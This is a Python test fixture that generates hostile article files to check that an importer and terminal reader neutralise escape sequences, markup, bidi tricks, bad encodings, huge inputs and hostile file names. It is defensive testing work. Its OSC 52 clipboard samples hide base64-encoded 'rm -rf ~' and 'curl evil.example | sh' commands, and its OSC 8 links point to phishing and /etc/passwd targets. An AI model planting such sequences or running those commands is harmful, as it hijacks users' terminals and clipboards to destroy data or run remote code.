"""A hostile corpus of article files, written by code (no binary files in the repository).

``write_corpus(folder)`` fills ``folder`` with files built to break an importer or
a terminal screen: escape sequences (CSI, OSC 8 links, OSC 52 clipboard writes),
Rich/Textual markup, bidi overrides, zero-width and combining characters, emoji and
CJK, a 5 MB single line, binary, empty and header-only files, shapes that a
parser reading them in quadratic time takes many seconds over (:data:`SLOW_LINES`),
nested front matter, Windows-1252, Latin-1, UTF-16 and UTF-32 files, hostile file
names, a symlink loop and a link out of the folder. It returns one
:class:`HostileFile` per input, saying what it tries and what a correct import does
with it: stores it under ``title`` (with a ``note:`` line when it was read with a
caveat), or skips it with a one-line reason.

One file, :data:`VANISHING`, is an ordinary article that is deleted after the
import has found it and before it reads it: :func:`ingest_command` runs the real
``reader --db DB ingest FOLDER`` in a new Python process with that one hook in
place. The import must report the file as vanished and go on.

The tests use it (``tests/test_hostile.py``); a script can too, with ``tests/`` on
``sys.path``. Everything is deterministic: the same folder every time.
"""

from __future__ import annotations

import codecs
import os
import sys
import unicodedata
from dataclasses import dataclass
from pathlib import Path

__all__ = ["DANGEROUS", "VANISHING", "HostileFile", "ingest_command", "write_corpus"]

#: What must never reach the database or the screen: ESC, C0 controls other than
#: newline, DEL, C1 controls, and the bidi embeddings, overrides and isolates.
DANGEROUS = frozenset(
    [chr(c) for c in range(0x20) if c != 0x0A]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2066, 0x206A)]
)

#: The file deleted while the import runs (see the module doc).
VANISHING = "vanishes.txt"

# `reader` with the file above deleted right before the importer reads it.
_VANISH_HOOK = f"""
import os, sys
from reader.cli import main
from reader.ingest import read as reading
read_bytes = reading.read_bytes
def read_after_deleting(path, *rest):
    if path.name == {VANISHING!r}:
        os.unlink(path)
    return read_bytes(path, *rest)
reading.read_bytes = read_after_deleting
sys.exit(main(sys.argv[1:]))
"""


def ingest_command(db: Path, folder: Path) -> list[str]:
    """``reader --db DB ingest FOLDER``, deleting :data:`VANISHING` once it has been found."""
    return [sys.executable, "-c", _VANISH_HOOK, "--db", str(db), "ingest", str(folder)]


#: Just under the 5 MB limit, and just over it.
FIVE_MB = 5 * 1024 * 1024

#: Lines in each file of a shape that made the parser quadratic: read one line (or
#: block) at a time, copying the rest each time, these took 3 to 30 s each.
SLOW_LINES = 100_000


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One input of the corpus and what a correct import does with it."""

    #: The path relative to the corpus folder, as ``os.fsdecode`` gives it.
    name: str
    #: What it tries, in a few words.
    what: str
    #: None when it must be imported; else a piece of the one-line reason it is skipped for.
    skipped: str | None = None
    #: The title it must be stored with (imported files only).
    title: str | None = None
    #: A piece of the ``note:`` line it must get (read with a caveat), if any.
    note: str | None = None
    #: Pieces its stored standfirst or body must contain (imported files only).
    text_has: tuple[str, ...] = ()
    #: The least number of characters its stored body must have.
    body_chars: int = 0

    @property
    def imported(self) -> bool:
        return self.skipped is None


# -- the pieces ---------------------------------------------------------------------------

ESC = "\x1b"
CSI_TITLE = f"{ESC}[31;1mBreaking:{ESC}[0m council {ESC}[2J{ESC}[Hvotes{ESC}[?1049h on budget"
CSI_BODY = (
    f"The council {ESC}[5mvoted{ESC}[0m late on Tuesday.{ESC}[?25l The screen "
    f"{ESC}[1;1H{ESC}[Kshould never clear,\x9b31m nor{ESC}[0m turn red.\n\n"
    f"A second paragraph{ESC}7 with a saved{ESC}8 cursor and a {ESC}c reset.\n"
)
OSC8_TITLE = f"Read {ESC}]8;;https://evil.example/phish{ESC}\\the full story{ESC}]8;;{ESC}\\ here"
OSC8_BODY = (
    f"Click {ESC}]8;id=1;https://evil.example{ESC}\\this link{ESC}]8;;{ESC}\\ to win.\n\n"
    f"Or {ESC}]8;;file:///etc/passwd\x07this one\x1b]8;;\x07 instead.\n"
)
OSC52_TITLE = f"Clipboard {ESC}]52;c;cm0gLXJmIH4K\x07attack warning"
OSC52_BODY = (
    f"Pasting is dangerous{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo={ESC}\\ today.\n\n"
    f"The window title changes{ESC}]0;pwned\x07 too, and {ESC}]2;also\x9c here.\n"
)
MARKUP_TITLE = (
    "[@click=app.quit]Quit[/] the [bold red]markup[/] [link=https://x.example]test[/link] [/]"
)
MARKUP_BODY = (
    "Label: [@click=app.quit]Hot[/]\n"
    "Author: [red]Mallory[/red]\n\n"
    f"{MARKUP_TITLE}\n\n"
    "Body [@click=app.quit]click me[/] and [@click=app.bell]ring[/] and [$accent]var[/].\n\n"
    "A stray close [/] and [/bold] and an escaped \\[bold] and [b]unclosed.\n"
)
BIDI_TITLE = "Prices \u202eesir\u202c today \u2066isolated\u2069 \u2067rtl\u2069 \u202dltr\u202c"
BIDI_BODY = (
    "Access granted \u202e\u2066// check if admin\u2069\u2066 for everyone.\n\n"
    "Embedded \u202alr\u202c and \u202brl\u202c marks \u200eand\u200f \u061cgo.\n"
)
ZERO_WIDTH_TITLE = (
    "Zero\u200bwidth\u200c spaces\u200d and \u2060word\u00adjoiners\ufe0f "
    "東\u200d京 क्\u200dष everywhere\u200d"
)
COMBINING_TITLE = (
    "Z" + "\u0334\u0321\u0353\u0324" * 6 + "algo "
    "c\u0327a\u0300 e\u0301 o\u0308\u0304 tex\u0336t\u0336 "
    + "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 3
    + " ends"
)
EMOJI_TITLE = (
    "Family 👨\u200d👩\u200d👧\u200d👦 flags 🇯🇵🇬🇧 skin 👍🏽 keycap 1\ufe0f\u20e3 "
    "heart ❤\ufe0f rainbow 🏳\ufe0f\u200d🌈 and more emoji 🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉"
)
# Long enough to be cut in the list at any width; one starts on an odd cell.
CJK_TITLE_EVEN = "東京で記者会見、全国ニュース速報：한국어 뉴스와 中文新闻标题" + "非常长" * 7
CJK_TITLE_ODD = "a" + CJK_TITLE_EVEN
RTL_TITLE = "עברית ועוד and العربية أيضا in one title"
PLAIN_BODY = "Quarterly profits at the paper jumped for the three months to December.\n"


def _article(title: str, body: str = PLAIN_BODY) -> str:
    return f"{title}\n\n{body}"


def _text_files() -> list[tuple[str, bytes, HostileFile]]:
    """(name, bytes, expectation) of every regular file of the corpus."""
    items: list[tuple[str, bytes, HostileFile]] = []

    def add(
        name: str,
        data: str | bytes,
        what: str,
        *,
        skipped: str | None = None,
        title: str | None = None,
        note: str | None = None,
        text_has: tuple[str, ...] = (),
        body_chars: int = 0,
    ) -> None:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        item = HostileFile(name, what, skipped, title, note, text_has, body_chars)
        items.append((name, raw, item))

    # Escape sequences.
    add(
        "csi.txt",
        _article(CSI_TITLE, CSI_BODY),
        "CSI colours, clear screen, cursor moves, alternate screen, 8-bit CSI",
        title="Breaking: council votes on budget",
        text_has=("voted late on Tuesday.", "should never clear, nor turn red."),
    )
    add(
        "osc8.txt",
        _article(OSC8_TITLE, OSC8_BODY),
        "OSC 8 hyperlinks (ST and BEL terminated)",
        title="Read the full story here",
        text_has=("Click this link to win.", "Or this one instead."),
    )
    add(
        "osc52.txt",
        _article(OSC52_TITLE, OSC52_BODY),
        "OSC 52 clipboard writes and OSC 0/2 window titles",
        title="Clipboard attack warning",
        text_has=("Pasting is dangerous today.",),
    )
    # Markup: kept as literal text.
    add(
        "markup.txt",
        MARKUP_BODY,
        "Rich/Textual markup and actions in title, label, author and body",
        title=MARKUP_TITLE,
        text_has=("[@click=app.quit]click me[/]", "[$accent]var[/]", "A stray close [/]"),
    )
    # Unicode that moves or hides text.
    add(
        "bidi.txt",
        _article(BIDI_TITLE, BIDI_BODY),
        "bidi overrides, embeddings, isolates and marks (Trojan Source)",
        title="Prices esir today isolated rtl ltr",
        text_has=("Access granted // check if admin for everyone.",),
    )
    add(
        "zero_width.txt",
        _article(ZERO_WIDTH_TITLE),
        "zero-width space, non-joiner, joiner, word joiner, soft hyphen, variation selector",
        title=ZERO_WIDTH_TITLE,
    )
    add(
        "combining.txt",
        _article(COMBINING_TITLE),
        "stacked combining marks (Zalgo) and decomposed accents",
        title=unicodedata.normalize("NFC", COMBINING_TITLE),
    )
    add("emoji.txt", _article(EMOJI_TITLE), "emoji ZWJ sequences, flags, skin tones, keycaps",
        title=EMOJI_TITLE)  # fmt: skip
    add("cjk_even.txt", _article(CJK_TITLE_EVEN), "a long wide-character title",
        title=CJK_TITLE_EVEN)  # fmt: skip
    add("cjk_odd.txt", _article(CJK_TITLE_ODD), "a long wide-character title, odd start",
        title=CJK_TITLE_ODD)  # fmt: skip
    add("rtl.txt", _article(RTL_TITLE), "right-to-left letters (kept)", title=RTL_TITLE)
    # Size.
    line = _long_line(FIVE_MB - 1000)
    add(
        "one_line.txt",
        line,
        "a single line of almost 5 MB, no newline: the whole file is one line",
        title=None,  # a short start of the line, which stays whole in the body
        text_has=(line[:100],),
        body_chars=len(line),
    )
    add(
        "long_paragraph.txt",
        _article("A title over a paragraph of almost 5 MB", line[: len(line) // 2] + "\n"),
        "a one-line paragraph of almost 2.5 MB",
        title="A title over a paragraph of almost 5 MB",
        body_chars=len(line) // 2,
    )
    add(
        "too_large.txt",
        _article("Too large", _long_line(FIVE_MB + 10)),
        "over the 5 MB limit",
        skipped="too large",
    )
    # Shapes a quadratic parser stalls on: an import must still be quick.
    add(
        "many_header_lines.txt",
        "By: a\n" * SLOW_LINES + "\nMany header lines\n\nBody.\n",
        "100,000 header lines before the title",
        title="Many header lines",
    )
    add(
        "lines_without_words.txt",
        ".\n" * SLOW_LINES,
        "100,000 lines with no word in one block: no title",
        skipped="no title",
    )
    add(
        "blocks_without_words.txt",
        ".\n\n" * (2 * SLOW_LINES),
        "200,000 one-line blocks with no word: no title",
        skipped="no title",
    )
    add(
        "huge_word.txt",
        _article("One huge word", "x" * 200_000 + "\n"),
        "a word of 200,000 letters",
        title="One huge word",
        body_chars=200_000,
    )
    add(
        "spaced_heading.md",
        "# Spaced" + " " * (SLOW_LINES // 5) + "heading\n\nBody.\n",
        "a Markdown heading with 20,000 spaces in it",
        title="Spaced heading",
    )
    add(
        "spaced_front_matter.md",
        "---\ntitle: Spaced" + " " * (SLOW_LINES // 5) + "title\n---\nBody.\n",
        "a front-matter value with 20,000 spaces in it",
        title="Spaced title",
    )
    add(
        "nested_front_matter.md",
        "---\ntitle:\n  nested: Mapping\n  deeper:\n    - a\nauthor:\n  name: Jane Doe\n"
        "  links:\n    - https://evil.example/\n---\nThe real title\n\nBody.\n",
        "front matter whose title and author are mappings holding lists",
        title="The real title",
    )
    # Nothing to read.
    add("empty.txt", b"", "an empty file", skipped="empty file")
    add("blank.md", b" \n\t\n\r\n  ", "only whitespace", skipped="empty file")
    add(
        "headers_only.txt",
        " date 2022-01-25 Exclusive\nDate: 25 January 2022\nAuthor: Jane Doe\nLabel: News\n",
        "only header lines, no title",
        skipped="no title",
    )
    add(
        "front_matter_only.md",
        "---\ntitle: Only front matter\ndate: 2022-01-25\nauthor: Jane Doe\n---\n",
        "Markdown front matter with a title and no body",
        title="Only front matter",
    )
    add(
        "controls_only.txt",
        f"{ESC}[2J{ESC}[H\x07\x08\u202e\u200b\n\n{ESC}]52;c;eA==\x07\n",
        "nothing but escapes and controls",
        skipped="no title",
    )
    # Binary.
    add(
        "binary.txt",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,
        "a PNG image named .txt",
        skipped="binary file",
    )
    add(
        "binary_noise.md",
        bytes((i * 131 + 7) % 256 for i in range(9000)).replace(b"\x00", b"\x01"),
        "binary bytes with no NUL",
        skipped="binary file",
    )
    # Encodings.
    add(
        "cp1252.txt",
        _article("\u201cSmart quotes\u201d cost \u20ac5 \u2013 or \u00a34",
                 "Caf\u00e9 owners said \u2018no\u2019 \u2026\n").encode("cp1252"),
        "Windows-1252: curly quotes, euro, dashes",
        title="\u201cSmart quotes\u201d cost \u20ac5 \u2013 or \u00a34",
        note="read as Windows-1252",
    )  # fmt: skip
    add(
        "latin1.txt",
        b"Caf\xe9 prices rise to \xa35\n\nThe na\xefve \x81owner\x8d said \xabnon\xbb.\n",
        "Latin-1 with bytes that Windows-1252 leaves undefined (C1 controls)",
        title="Café prices rise to £5",
        note="read as Latin-1",
        text_has=("The naïve owner said «non».",),
    )
    add(
        "utf16.txt",
        codecs.BOM_UTF16_LE + _article("Sixteen bits \u00e9t\u00e9").encode("utf-16-le"),
        "UTF-16 with a byte-order mark",
        title="Sixteen bits été",
        note="UTF-16",
    )
    add(
        "utf32.txt",
        codecs.BOM_UTF32_LE + _article(f"Thirty-two {ESC}[31mbits").encode("utf-32-le"),
        "UTF-32 with a byte-order mark (it starts like UTF-16's), an escape in the title",
        title="Thirty-two bits",
        note="UTF-32",
    )
    add(
        "crlf.txt",
        "Old Mac\rline ends\r\rBody one.\r\nBody two.\r",
        "carriage returns alone and with newlines",
        title="Old Mac",
        text_has=("Body one.", "Body two."),
    )
    # Names that attack the terminal that prints them.
    add(
        f"name{ESC}]52;c;aGk=\x07{ESC}[2J.txt",
        b"",
        "an empty file whose name holds OSC 52 and clear-screen sequences",
        skipped="empty file",
    )
    add(
        "line\nbreak.txt",
        b"",
        "an empty file with a newline in its name (the reason stays one line)",
        skipped="empty file",
    )
    add(
        os.fsdecode(b"caf\xe9-latin1-name.txt"),
        _article("A file name that is not UTF-8"),
        "a file name that is not valid UTF-8",
        title="A file name that is not UTF-8",
    )
    add(
        f"{ESC}[31mfolder{ESC}[0m/inside.txt",
        _article("Inside a hostile folder"),
        "an article in a folder whose name holds escapes (shown as its source)",
        title="Inside a hostile folder",
    )
    add(
        VANISHING,
        _article("This file vanishes"),
        "deleted after the import found it, before it was read (see ingest_command)",
        skipped="vanished during import",
    )
    return items


def _long_line(size: int) -> str:
    """Words on one line, ``size`` bytes long in UTF-8 (deterministic)."""
    words = ("budget", "council", "年度", "vote", "Ωmega", "naïve", "the", "🎉", "a")
    unit = " ".join(f"{w}{i}" for i, w in enumerate(words * 11)) + " "
    whole, rest = divmod(size, len(unit.encode("utf-8")))
    return unit * whole + "x" * rest


def write_corpus(folder: Path) -> list[HostileFile]:
    """Write the hostile corpus into ``folder`` (created if needed); what each file expects."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: list[HostileFile] = []
    for name, data, item in _text_files():
        path = os.path.join(os.fsencode(folder), os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(data)
        expected.append(item)
    # A symlink loop: each link names the other.
    os.symlink(folder / "loop_b.txt", folder / "loop_a.txt")
    os.symlink(folder / "loop_a.txt", folder / "loop_b.txt")
    expected += [
        HostileFile("loop_a.txt", "a symlink loop", skipped="symlink loop"),
        HostileFile("loop_b.txt", "a symlink loop", skipped="symlink loop"),
    ]
    # A link to the folder above: never followed out of the folder the user named.
    os.symlink(folder.parent, folder / "up.txt")
    expected.append(HostileFile("up.txt", "a link out of the folder", skipped="outside"))
    return expected
